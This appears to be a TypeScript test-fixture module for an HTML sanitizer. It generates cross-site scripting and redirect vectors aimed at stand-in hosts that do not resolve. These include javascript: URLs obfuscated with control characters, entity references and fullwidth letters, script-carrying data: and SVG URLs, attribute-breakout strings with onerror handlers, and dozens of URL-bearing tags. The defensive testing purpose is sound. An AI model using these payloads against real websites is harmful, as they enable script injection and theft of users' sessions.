/** One attack. `write` returns the text for the call that must not run and a number of its own. */
export type Vector = { readonly family: string; readonly write: (hit: string, number: number) => string };

/** Fills in the placeholders of a vector: the call, a foreign host, and a global name. */
const filledIn = (text: string, hit: string, number: number) =>
  text.replaceAll('HIT', hit).replaceAll('EVIL', evilHost(number)).replaceAll('NAME', nameOf(number));

/** Returns the foreign host of one vector, which does not resolve. */
export const evilHost = (number: number) => `evil-${number}.invalid`;

export const nameOf = (number: number) => `clobbered${number}`;

export function vectorsOf(family: string, texts: readonly string[]): Vector[] {
  return texts.map((text) => ({ family, write: (hit, number) => filledIn(text, hit, number) }));
}

/** The ways in which HTML writes a letter as a character reference. */
const references: readonly ((code: number) => string)[] = [
  (code) => `&#${code};`,
  (code) => `&#${String(code).padStart(7, '0')}`,
  (code) => `&#x${code.toString(16)};`,
  (code) => `&#X${code.toString(16).toUpperCase()};`,
];

const scheme = 'javascript:';
const inside = (between: string) => [...scheme].join(between);

/** Addresses that run a script, lead elsewhere or only seem to stay, as an answer contains them (not escaped for HTML). */
export const addressTexts: readonly string[] = [
  `${scheme}HIT`,
  'JaVaScRiPt:HIT',
  ...['\t', '\n', '\r', '\r\n\t'].map((between) => `java${between}script:HIT`),
  `${inside('\t')}HIT`,
  `${inside('\n')}HIT`,
  ...['\u0001', '\u0008', '\u000b', '\u001f', ' \t\n', '\u00a0', '\u2028', '\u3000', '\ufeff', '\u200b'].map(
    (before) => `${before}${scheme}HIT`,
  ),
  'javascript\t:HIT',
  'java\u0000script:HIT',
  'javascript:\u2028HIT',
  'javascript://EVIL/%0aHIT',
  'javascript:/*https://EVIL*/HIT',
  'javascript:"//https://EVIL/",HIT',
  'javascript&colon;HIT',
  'javascript%3aHIT',
  'ｊａｖａｓｃｒｉｐｔ:HIT',
  'vbscript:HIT',
  'livescript:HIT',
  'mocha:HIT',
  'view-source:javascript:HIT',
  'feed:javascript:HIT',
  'jar:javascript:HIT!/',
  'data:text/html,<script>top.HIT</script>',
  `data:text/html;base64,${btoa('<script>alert(1)</script>')}`,
  'data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">HIT</script>',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="HIT"/>',
  'data:text/javascript,HIT',
  'data:,HIT',
  'blob:http://EVIL/1',
  'filesystem:http://EVIL/temporary/1.html',
  'file:///etc/passwd',
  'about:srcdoc',
  'intent://EVIL#Intent;scheme=http;S.browser_fallback_url=http%3A%2F%2FEVIL;end',
  '//EVIL/a',
  '\\\\EVIL\\a',
  '/\\EVIL/a',
  '\\/EVIL/a',
  '/\t/EVIL/a',
  '/\n/EVIL/a',
  'http:EVIL/a',
  'http:/EVIL/a',
  'https:///EVIL/a',
  'http:\\\\EVIL\\a',
  'http://localhost@EVIL/a',
  'http://localhost:18100%40EVIL/a',
  'http://localhost\\@EVIL/a',
  'http://localhost。EVIL/a',
  'http://EVIL#@localhost/',
  'http://EVIL?localhost',
  'ws://EVIL/a',
  'ftp://EVIL/a',
  'x" onerror="HIT" x="',
  "x' onload='HIT",
  'x) ; background: url(http://EVIL/',
  '#"><img src=x onerror=HIT>',
];

export const addressVectors = vectorsOf('address', addressTexts);

/** The places of an address in HTML, where URL stands for the address. */
const places = [
  '<a href="URL">x</a>',
  '<area href="URL" shape="default">',
  '<map name="m"><area href="URL" shape="default"></map><img usemap="#m" src="/icon.svg">',
  '<iframe src="URL"></iframe>',
  '<frameset><frame src="URL"></frameset>',
  '<embed src="URL">',
  '<object data="URL"></object>',
  '<object><param name="src" value="URL"><param name="movie" value="URL"></object>',
  '<applet code="URL" archive="URL"></applet>',
  '<form action="URL"><button>x</button><input type="submit"></form>',
  '<button form="f" formaction="URL">x</button><form id="f"></form>',
  '<input type="image" src="URL" formaction="URL">',
  '<img src="URL">',
  '<img srcset="URL 1x">',
  '<img src="/icon.svg" lowsrc="URL" dynsrc="URL" longdesc="URL">',
  '<image src="URL" xlink:href="URL">',
  '<picture><source srcset="URL"><img src="URL"></picture>',
  '<video poster="URL" src="URL"><source src="URL"><track default src="URL"></video>',
  '<audio src="URL" autoplay></audio>',
  '<body background="URL">',
  '<table background="URL"><tr background="URL"><td background="URL">x</td></tr></table>',
  '<link rel="stylesheet" href="URL">',
  '<link rel="import" href="URL">',
  '<base href="URL"><a href="/a">x</a>',
  '<html manifest="URL">',
  '<meta http-equiv="refresh" content="0;url=URL">',
  '<script src="URL"></script>',
  '<svg><a xlink:href="URL"><text y="9">x</text></a></svg>',
  '<svg><a href="URL"><rect width="99" height="99"/></a></svg>',
  '<svg><use href="URL" xlink:href="URL"/></svg>',
  '<svg><image href="URL" xlink:href="URL"/><feImage href="URL"/></svg>',
  '<svg><script href="URL" xlink:href="URL"></script></svg>',
  '<svg><a><animate attributeName="href" values="URL"/><set attributeName="href" to="URL"/><text y="9">x</text></a></svg>',
  '<svg><foreignObject><iframe src="URL"></iframe></foreignObject></svg>',
  '<math href="URL"><mi href="URL" xlink:href="URL">x</mi></math>',
  '<math><maction actiontype="statusline#URL" xlink:href="URL">x</maction></math>',
  '<blockquote cite="URL">x</blockquote><q cite="URL">x</q><del cite="URL">x</del><ins cite="URL">x</ins>',
  '<a href="#" ping="URL">x</a>',
  '<bgsound src="URL"><layer src="URL"></layer><ilayer src="URL"></ilayer>',
  '<xml src="URL" id="x"></xml><span datasrc="#x" datafld="c" dataformatas="html"></span>',
  '<portal src="URL"></portal><fencedframe src="URL"></fencedframe>',
  '<p style="background:url(URL)">x</p>',
  '<div title="URL" align="URL" width="URL" color="URL">x</div>',
];

const quoted = (text: string) =>
  text.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;');

/** Every place with the plain address, and the most usual place with every spelling of it. */
export const addressesInHtml: readonly Vector[] = [
  ...vectorsOf(
    'address in a place',
    places.flatMap((place) =>
      [`${scheme}HIT`, 'http://EVIL/a'].map((address) => place.replaceAll('URL', quoted(address))),
    ),
  ),
  ...vectorsOf('spelled address', [
    ...addressTexts.map((address) => `<a href="${quoted(address)}">x</a><img src="${quoted(address)}">`),
    '<a href=javascript&colon;HIT>x</a>',
    '<a href="java&Tab;script&colon;HIT">x</a>',
    '<a href="java&NewLine;script:HIT">x</a>',
    '<a href=`javascript:HIT`>x</a>',
    '<a href = javascript:HIT>x</a>',
    '<a/href="javascript:HIT">x</a>',
    '<a href="" href="javascript:HIT">x</a>',
    '<a href="javascript:HIT" href="">x</a>',
    '<a target="_top" rel="opener" href="http://EVIL/">x</a>',
    '<a target="NAME" href="http://EVIL/">x</a>',
  ]),
  ...references.map((reference) => ({
    family: 'address in references',
    write: (hit: string) =>
      `<a href="${[...`${scheme}${hit}`].map((letter) => reference(letter.charCodeAt(0))).join('')}">x</a>`,
  })),
];
